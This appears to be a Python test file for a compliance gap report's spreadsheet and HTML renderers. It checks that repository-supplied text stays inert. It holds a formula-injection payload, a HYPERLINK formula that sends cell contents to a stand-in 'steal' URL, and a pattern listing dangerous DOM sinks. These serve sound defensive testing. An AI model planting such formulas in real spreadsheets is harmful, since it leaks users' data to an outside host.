"""The gap report's typed workbook and sortable HTML tables: whatever a repository writes stays
inert text. No cell becomes a formula, no text that merely looks like a number or date changes,
and the sort script moves the report's own nodes without ever parsing markup."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from helpers import TESTS, edit
from payloads import PAYLOAD
from plaintrust import pipeline
from plaintrust.internal import gaps
from plaintrust.internal.render import RENDERERS

MINI = TESTS / "fixtures" / "gap-mini"
FORMULA = '=HYPERLINK("https://x.example/steal?"&A1,"open")'


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "mini"
    shutil.copytree(MINI, repo)
    return repo


def test_an_organization_that_is_a_formula_or_markup_stays_text(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    name = f"{FORMULA} {PAYLOAD}"
    edit(repo, "controls/program.yaml", "organization: Mini Co", "organization: '" + name.replace("'", "''") + "'")
    edit(repo, "controls/c-monthly.yaml", "owner: erin@mini.example", "owner: '2026-01-01'")
    data = RENDERERS["xlsx"](gaps.build(pipeline.run(repo).model))
    book = load_workbook(io.BytesIO(data))
    assert (book["Summary"]["B1"].value, book["Summary"]["B1"].data_type) == (name, "s")
    owners = [r[3] for r in book["Matrix"].iter_rows(min_row=2) if r[0].value == "C-MONTHLY"]
    assert [(c.value, c.data_type) for c in owners] == [("2026-01-01", "s")]  # an owner is never a date
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(r"<f[ >]", s) for s in sheets)  # no formula anywhere


def test_the_sort_script_never_parses_markup(tmp_path: Path) -> None:
    html = RENDERERS["html"](gaps.build(pipeline.run(_repo(tmp_path)).model)).decode()
    script = html[html.rindex("<script>") :]
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|Function\(", script)
